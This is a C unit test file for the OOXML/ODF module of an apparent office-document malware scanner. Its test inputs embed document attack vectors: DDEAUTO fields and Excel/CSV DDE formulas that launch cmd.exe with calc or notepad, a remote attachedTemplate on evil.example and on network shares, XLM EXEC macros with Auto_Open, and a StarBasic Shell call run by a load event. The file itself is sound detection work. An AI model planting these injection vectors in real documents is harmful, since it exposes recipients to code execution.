/*
 * test_ooxml.c: ooxml.c and ooxml_xml.c on hand-written OOXML/ODF members:
 * relationships (quotes, entities, attribute order, hyperlinks), DDE fields split
 * over runs, DDE formulas and links, XLM macro sheets and Auto_Open, Packager
 * embeddings, ODF Basic and events, and members that must stay clean.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "core/analyser.h"
#include "office/ooxml.h"

struct fx {
	struct scan_config cfg;
	struct report *r;
	struct scan_ctx *ctx;
	struct scan_input in;
};

static void
fx_run_len(struct fx *f, enum tclass container, const char *name, const char *data,
    size_t len)
{
	memset(f, 0, sizeof(*f));
	scan_limits_default(&f->cfg.lim);
	f->r = report_new();
	assert_int_equal(report_part_add(f->r, -1, "", 1), 0);
	f->ctx = scan_new(&f->cfg, f->r);
	assert_non_null(f->ctx);
	f->in.part = 0;
	f->in.name = name;
	f->in.data = (const unsigned char *)data;
	f->in.len = len;
	f->in.size = len;
	f->in.container = container;
	assert_int_equal(ooxml_member_scan(f->ctx, &f->in), EM_OK);
}

static void
fx_run(struct fx *f, enum tclass container, const char *name, const char *data)
{
	fx_run_len(f, container, name, data, strlen(data));
}

static void
fx_free(struct fx *f)
{
	scan_free(f->ctx);
	report_free(f->r);
}

static const char *
fx_detail(struct fx *f, const char *name, int nth)
{
	int i;

	for (i = 0; i < report_nfindings(f->r); i++)
		if (strcmp(report_finding(f->r, i)->name, name) == 0 && nth-- == 0)
			return report_finding(f->r, i)->detail;
	return NULL;
}

static void
remote_template_with_single_quotes_and_entities(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "word/_rels/settings.xml.rels",
	    "<?xml version='1.0'?><Relationships xmlns='x'>"
	    "<Relationship TargetMode = 'External' Target='http://evil.example/t.dotm?a=1&amp;b=2'"
	    " Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'"
	    " Id='rId1'/></Relationships>");
	assert_int_equal(report_nfindings(f.r), 1);
	assert_string_equal(fx_detail(&f, "doc.remote_template", 0),
	    "attachedTemplate on a web URL: http://evil.example/t.dotm?a=1&b=2");
	fx_free(&f);
}

/* attachedTemplate on a share (UNC, WebDAV, file://host) is a remote template; on a
 * local path (what Word writes for Normal.dotm) it stays doc.template_injection. */
static void
remote_template_on_shares_but_not_local(void **state)
{
	static const struct { const char *target, *finding, *detail; } t[] = {
		{ "\\\\files.example@SSL\\DavWWWRoot\\t.dotm", "doc.remote_template",
		  "attachedTemplate on a WebDAV share: \\\\files.example@SSL\\DavWWWRoot\\t.dotm" },
		{ "\\\\198.51.100.4\\share\\t.dotm", "doc.remote_template",
		  "attachedTemplate on a network share: \\\\198.51.100.4\\share\\t.dotm" },
		{ "file://198.51.100.4/share/t.dotm", "doc.remote_template",
		  "attachedTemplate on a network share: file://198.51.100.4/share/t.dotm" },
		{ "file:///C:\\Users\\a\\Normal.dotm", "doc.template_injection",
		  "attachedTemplate -> file:///C:\\Users\\a\\Normal.dotm" },
	};
	struct strbuf sb = STRBUF_INIT;
	struct fx f;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		sb_reset(&sb);
		sb_printf(&sb, "<Relationships><Relationship Id=\"rId1\" Type=\"http://"
		    "schemas.openxmlformats.org/officeDocument/2006/relationships/"
		    "attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/>"
		    "</Relationships>", t[i].target);
		fx_run(&f, TC_OOXML, "word/_rels/settings.xml.rels", sb_str(&sb));
		assert_int_equal(report_nfindings(f.r), 1);
		assert_string_equal(fx_detail(&f, t[i].finding, 0), t[i].detail);
		fx_free(&f);
	}
	sb_free(&sb);
}

static void
external_links_but_not_hyperlinks(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "xl/externalLinks/_rels/externalLink1.xml.rels",
	    "<Relationships>"
	    "<Relationship Id=\"rId1\" Type=\"http://x/relationships/hyperlink\""
	    " Target=\"https://example.org/\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId2\" Type=\"http://x/relationships/externalLinkPath\""
	    " Target=\"file:///\\\\srv\\share\\book.xlsx\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId3\" Type=\"http://x/relationships/image\""
	    " Target=\"media/image1.png\"/>"
	    "<Relationship Id=\"rId4\" Type=\"http://x/relationships/oleObject\""
	    " Target=\"http://a.example/o.doc\" TargetMode=\"External\"/>"
	    "</Relationships>");
	assert_int_equal(report_nfindings(f.r), 2);
	assert_non_null(strstr(fx_detail(&f, "doc.external_link", 0), "externalLinkPath"));
	assert_non_null(strstr(fx_detail(&f, "doc.template_injection", 0), "oleObject"));
	fx_free(&f);
}

static void
dde_field_split_over_runs(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "word/document.xml",
	    "<w:document><w:body><w:p>"
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
	    "<w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
	    "<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "<w:fldSimple w:instr=' DDE cmd \"/c notepad\"'><w:r><w:t>y</w:t></w:r></w:fldSimple>"
	    "</w:p></w:body></w:document>");
	assert_int_equal(report_nfindings(f.r), 2);
	assert_string_equal(fx_detail(&f, "doc.dde", 0),
	    "field: DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"");
	assert_non_null(strstr(fx_detail(&f, "doc.dde", 1), "DDE cmd"));
	fx_free(&f);
}

static void
dde_nested_in_another_field(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "word/document.xml",
	    "<w:document><w:fldChar w:fldCharType='begin'/><w:instrText>IF 1 = 1 "
	    "</w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO c:\\a.exe"
	    "</w:instrText><w:fldChar w:fldCharType='end'/><w:instrText> x</w:instrText>"
	    "<w:fldChar w:fldCharType='end'/></w:document>");
	assert_int_equal(report_nfindings(f.r), 1);
	assert_string_equal(fx_detail(&f, "doc.dde", 0), "field: DDEAUTO c:\\a.exe x");
	fx_free(&f);
}

static void
ordinary_fields_are_clean(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "word/footer1.xml",
	    "<w:ftr><w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
	    "<w:r><w:instrText> PAGE </w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
	    "<w:r><w:t>DDEAUTO in text is only text</w:t></w:r>"
	    "<!-- <w:instrText>DDEAUTO x</w:instrText> --></w:p></w:ftr>");
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
}

static void
includepicture_url_is_external(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "word/header2.xml",
	    "<w:hdr><w:fldChar w:fldCharType='begin'/><w:instrText>INCLUDEPICTURE "
	    "\"http://t.example/p.png\" \\d</w:instrText><w:fldChar w:fldCharType='end'/>"
	    "</w:hdr>");
	assert_int_equal(report_nfindings(f.r), 1);
	assert_non_null(fx_detail(&f, "doc.external_link", 0));
	fx_free(&f);
}

static void
excel_dde_formula_and_link(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "xl/worksheets/sheet1.xml",
	    "<worksheet><sheetData><row><c r='A1'><f>SUM(B1:B3)</f></c>"
	    "<c r='A2'><f>cmd|&apos; /c calc&apos;!A0</f></c></row></sheetData></worksheet>");
	assert_int_equal(report_nfindings(f.r), 1);
	assert_string_equal(fx_detail(&f, "doc.dde", 0), "DDE formula: cmd|' /c calc'!A0");
	fx_free(&f);
	fx_run(&f, TC_OOXML, "xl/externalLinks/externalLink1.xml",
	    "<externalLink><ddeLink xmlns:r='r' ddeTopic='/c calc' ddeService='cmd'>"
	    "</ddeLink></externalLink>");
	assert_string_equal(fx_detail(&f, "doc.dde", 0), "DDE link cmd|/c calc");
	fx_free(&f);
}

static void
xlm_macro_sheets_and_auto_open(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_OOXML, "xl/macrosheets/sheet1.xml",
	    "<xm:macrosheet><sheetData><row><c><f>EXEC(\"calc.exe\")</f></c>"
	    "<c><f>CALL(\"k\",\"W\")</f></c><c><f>HALT()</f></c></row></sheetData>"
	    "</xm:macrosheet>");
	assert_non_null(strstr(fx_detail(&f, "macro.xlm", 0), "EXEC("));
	assert_non_null(strstr(fx_detail(&f, "macro.xlm", 0), "CALL("));
	fx_free(&f);
	fx_run(&f, TC_OOXML, "xl/macrosheets/sheet1.bin", "\x01\x02");
	assert_non_null(fx_detail(&f, "macro.xlm", 0));
	fx_free(&f);
	fx_run(&f, TC_OOXML, "xl/workbook.xml",
	    "<workbook><definedNames><definedName name=\"Print_Area\">S!$A$1</definedName>"
	    "<definedName hidden='1' name='_xlnm.Auto_Open'>Macro1!$A$1</definedName>"
	    "</definedNames></workbook>");
	assert_int_equal(report_nfindings(f.r), 1);
	assert_string_equal(fx_detail(&f, "macro.xlm", 0),
	    "defined name _xlnm.Auto_Open -> Macro1!$A$1");
	fx_free(&f);
	fx_run(&f, TC_OOXML, "[Content_Types].xml",
	    "<Types><Override PartName=\"/xl/macrosheets/intl1.xml\" ContentType="
	    "\"application/vnd.ms-excel.intlmacrosheet+xml\"/><Default Extension='xml' "
	    "ContentType='application/xml'/></Types>");
	assert_int_equal(report_nfindings(f.r), 1);
	assert_non_null(fx_detail(&f, "macro.xlm", 0));
	fx_free(&f);
	fx_run(&f, TC_OOXML, "xl/_rels/workbook.xml.rels",
	    "<Relationships><Relationship Id='rId1' Target='macrosheets/intl1.xml' "
	    "Type='http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet'/>"
	    "</Relationships>");
	assert_non_null(strstr(fx_detail(&f, "macro.xlm", 0), "xlIntlMacrosheet"));
	fx_free(&f);
}

static void
packager_embeddings_only(void **state)
{
	static const char pkg[] = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1...\x01O\0l\0e\0"
	    "1\0" "0\0N\0a\0t\0i\0v\0e\0";
	static const char wb[] = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1...W\0o\0r\0k\0b\0o\0o\0k\0";
	struct fx f;

	(void)state;
	fx_run_len(&f, TC_OOXML, "word/embeddings/oleObject1.bin", pkg, sizeof(pkg) - 1);
	assert_non_null(strstr(fx_detail(&f, "doc.ole_object", 0), "Packager"));
	fx_free(&f);
	fx_run_len(&f, TC_OOXML, "xl/embeddings/oleObject2.bin", wb, sizeof(wb) - 1);
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
	fx_run_len(&f, TC_ODF, "Object 1", pkg, sizeof(pkg) - 1);
	assert_non_null(fx_detail(&f, "doc.ole_object", 0));
	fx_free(&f);
}

static void
odf_basic_and_events(void **state)
{
	struct fx f;

	(void)state;
	fx_run(&f, TC_ODF, "Basic/Standard/Module1.xml",
	    "<?xml version='1.0'?><!DOCTYPE script:module PUBLIC 'x' 'module.dtd'>"
	    "<script:module xmlns:script='s' script:name='Module1' "
	    "script:language='StarBasic'>Sub Main\nShell(&quot;calc&quot;)\nEnd Sub"
	    "</script:module>");
	assert_non_null(fx_detail(&f, "macro.odf", 0));
	fx_free(&f);
	fx_run(&f, TC_ODF, "Basic/script-lc.xml",
	    "<library:libraries><library:library library:name='Standard'/>"
	    "</library:libraries>");
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
	fx_run(&f, TC_ODF, "content.xml",
	    "<office:document-content><office:scripts/><office:event-listeners>"
	    "<script:event-listener script:language='ooo:script' script:event-name="
	    "'dom:load' xlink:href='vnd.sun.star.script:Standard.M.Main?language=Basic"
	    "&amp;location=document'/></office:event-listeners></office:document-content>");
	assert_string_equal(fx_detail(&f, "macro.odf", 0),
	    "event dom:load runs vnd.sun.star.script:Standard.M.Main?language=Basic"
	    "&location=document");
	fx_free(&f);
	fx_run(&f, TC_ODF, "content.xml",
	    "<office:document-content><office:scripts><office:script "
	    "script:language='ooo:Basic'><ooo:libraries/></office:script>"
	    "</office:scripts><office:scripts/></office:document-content>");
	assert_string_equal(fx_detail(&f, "macro.odf", 0), "document script (ooo:Basic)");
	assert_int_equal(report_nfindings(f.r), 1);
	fx_free(&f);
	/* an OOXML member with an ODF-looking name is not ODF */
	fx_run(&f, TC_OOXML, "Basic/Standard/Module1.xml", "<script:module/>");
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
}

static void
findings_per_member_are_capped(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct fx f;
	int i;

	(void)state;
	sb_adds(&sb, "<Relationships>");
	for (i = 0; i < 500; i++)
		sb_printf(&sb, "<Relationship Type='x/frame' Target='http://h/%d' "
		    "TargetMode='External'/>", i);
	fx_run(&f, TC_OOXML, "word/_rels/webSettings.xml.rels", sb_str(&sb));
	assert_int_equal(report_nfindings(f.r), 33);
	assert_non_null(fx_detail(&f, "scan.limit", 0));
	fx_free(&f);
	sb_free(&sb);
}

/* BIFF12 records: type 39 BrtName "Auto_Open", type 360 (0xe8 0x02) DDE supbook */
static void
xlsb_records(void **state)
{
	static const char wb[] = "\x27\x1f" "\x20\0\0\0" "\0" "\xff\xff\xff\xff"
	    "\x09\0\0\0" "A\0u\0t\0o\0_\0O\0p\0e\0n\0";
	static const char el[] = "\x01\x00" "\xe8\x02\x12" "\x01\x00"
	    "\x03\0\0\0" "c\0m\0d\0" "\x01\0\0\0" "x\0";
	static const char bad[] = "\xe8\x02\x7f" "\x01\x00" "\xff\xff\xff\x7f";
	struct fx f;
	char out[32];

	(void)state;
	fx_run_len(&f, TC_OOXML, "xl/workbook.bin", wb, sizeof(wb) - 1);
	assert_string_equal(fx_detail(&f, "macro.xlm", 0), "defined name Auto_Open (xlsb)");
	fx_free(&f);
	fx_run_len(&f, TC_OOXML, "xl/externalLinks/externalLink1.bin", el, sizeof(el) - 1);
	assert_string_equal(fx_detail(&f, "doc.dde", 0), "DDE link cmd|x");
	fx_free(&f);
	/* a record longer than the data, a string longer than its record */
	assert_int_equal(xlsb_dde_link((const unsigned char *)bad, sizeof(bad) - 1, out,
	    sizeof(out)), 0);
	assert_int_equal(xlsb_auto_open((const unsigned char *)wb, sizeof(wb) - 3, out,
	    sizeof(out)), 0);
}

static void
flat_xml_and_csv(void **state)
{
	const char *w2003 = "<?xml version='1.0'?><?mso-application progid=\"Word.Document\"?>"
	    "<w:wordDocument><w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO "
	    "cmd</w:instrText><w:fldChar w:fldCharType='end'/></w:wordDocument>";
	const char *x2003 = "<?mso-application progid=\"Excel.Sheet\"?><Workbook><Row>"
	    "<Cell ss:Formula=\"=cmd|&apos;/c calc&apos;!A1\"/></Row></Workbook>";
	const char *other = "<svg><text>DDEAUTO</text><w:instrText>DDEAUTO x"
	    "</w:instrText></svg>";
	const char *csv = "a,b\n1,\"x|y\"\n2,=cmd|' /c calc'!A0\n3,+c|d!e\n";
	struct fx f;

	(void)state;
	fx_run(&f, TC_UNKNOWN, "a.xml", "");
	assert_int_equal(ooxml_flat_scan(f.ctx, &f.in), EM_OK);
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
	fx_run(&f, TC_UNKNOWN, NULL, w2003);
	assert_int_equal(ooxml_flat_scan(f.ctx, &f.in), EM_OK);
	assert_string_equal(fx_detail(&f, "doc.dde", 0), "field: DDEAUTO cmd");
	fx_free(&f);
	fx_run(&f, TC_UNKNOWN, NULL, x2003);
	assert_int_equal(ooxml_flat_scan(f.ctx, &f.in), EM_OK);
	assert_string_equal(fx_detail(&f, "doc.dde", 0), "DDE formula: =cmd|'/c calc'!A1");
	fx_free(&f);
	fx_run(&f, TC_UNKNOWN, NULL, other);
	assert_int_equal(ooxml_flat_scan(f.ctx, &f.in), EM_OK);
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
	fx_run(&f, TC_UNKNOWN, "list.CSV", csv);
	assert_int_equal(ooxml_csv_scan(f.ctx, &f.in), EM_OK);
	assert_int_equal(report_nfindings(f.r), 2);
	assert_string_equal(fx_detail(&f, "doc.dde", 0),
	    "DDE formula in CSV: =cmd|' /c calc'!A0");
	fx_free(&f);
	fx_run(&f, TC_UNKNOWN, "notes.txt", csv);
	assert_int_equal(ooxml_csv_scan(f.ctx, &f.in), EM_OK);
	assert_int_equal(report_nfindings(f.r), 0);
	fx_free(&f);
}

static void
xml_reader_survives_truncation(void **state)
{
	const char *d = "<a x='1' y=\"2\"/><b z='unterminated";
	struct xml_el el;
	size_t off = 0;
	char v[8];

	(void)state;
	assert_int_equal(xml_next(d, strlen(d), &off, &el), 1);
	assert_true(el.selfclose);
	assert_int_equal(xml_attr(&el, "y", v, sizeof(v)), 1);
	assert_string_equal(v, "2");
	assert_int_equal(xml_attr(&el, "q", v, sizeof(v)), -1);
	assert_int_equal(xml_next(d, strlen(d), &off, &el), 0);
	assert_int_equal(off, strlen(d));
	assert_int_equal(xml_unescape("&#x41;&#66;&bogus;&", 19, v, sizeof(v)), 7);
	assert_string_equal(v, "AB&bogu");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(remote_template_with_single_quotes_and_entities),
		cmocka_unit_test(remote_template_on_shares_but_not_local),
		cmocka_unit_test(external_links_but_not_hyperlinks),
		cmocka_unit_test(dde_field_split_over_runs),
		cmocka_unit_test(dde_nested_in_another_field),
		cmocka_unit_test(ordinary_fields_are_clean),
		cmocka_unit_test(includepicture_url_is_external),
		cmocka_unit_test(excel_dde_formula_and_link),
		cmocka_unit_test(xlm_macro_sheets_and_auto_open),
		cmocka_unit_test(packager_embeddings_only),
		cmocka_unit_test(odf_basic_and_events),
		cmocka_unit_test(findings_per_member_are_capped),
		cmocka_unit_test(xlsb_records),
		cmocka_unit_test(flat_xml_and_csv),
		cmocka_unit_test(xml_reader_survives_truncation),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
